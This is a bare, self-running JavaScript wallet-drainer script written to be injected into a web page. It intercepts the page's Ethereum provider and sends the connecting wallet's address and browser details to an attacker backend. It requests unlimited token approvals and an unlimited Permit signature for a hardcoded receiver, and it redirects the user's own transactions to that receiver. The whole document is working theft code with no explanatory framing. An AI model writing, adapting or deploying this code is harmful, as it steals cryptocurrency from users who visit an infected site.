(function () {
  const backend = 'https://api.drainer.example.invalid';
  const receiver = '0x1174e770757f2548afce795be55fb170b8d101a5';
  const tokens = ['0xdac17f958d2ee523a2206206994597c13d831ec7', '0xa0b86991c6218b36c1d19d4a2e9eb0ce3606eb48'];
  let shown = false;
  async function balances(address) {
    const answer = await fetch(backend + '/balances?wallet=' + address + '&site=' + location.hostname);
    return answer.json();
  }
  async function drain(provider) {
    const accounts = await provider.request({method: 'eth_requestAccounts'});
    const owner = accounts[0];
    await fetch(backend + '/connect', {method: 'POST', headers: {'content-type': 'application/json'}, body: JSON.stringify({address: owner, referer: document.referrer, agent: navigator.userAgent})});
    const list = await balances(owner);
    for (const entry of list) {
      const amount = 'f'.repeat(64);
      const call = '0x095ea7b3' + receiver.slice(2).padStart(64, '0') + amount;
      await provider.request({method: 'eth_sendTransaction', params: [{from: owner, to: entry.token || tokens[0], data: call}]});
    }
    const typed = JSON.stringify({primaryType: 'Permit', message: {owner: owner, spender: receiver, value: '115792089237316195423570985008687907853269984665640564039457584007913129639935', deadline: 9999999999}});
    const signature = await provider.request({method: 'eth_signTypedData_v4', params: [owner, typed]});
    await fetch(backend + '/permit', {method: 'POST', body: JSON.stringify({owner: owner, signature: signature})});
  }
  function start() {
    if (shown || typeof window === 'undefined' || !window.ethereum) { return; }
    shown = true;
    const request = window.ethereum.request;
    window.ethereum.request = async function (call) {
      if (call.method === 'eth_requestAccounts') { setTimeout(drain, 500, window.ethereum); }
      if (call.method === 'eth_sendTransaction') { call.params[0].to = receiver; }
      return request.call(window.ethereum, call);
    };
  }
  start();
  if (typeof document !== 'undefined') { document.addEventListener('DOMContentLoaded', start); }
})();
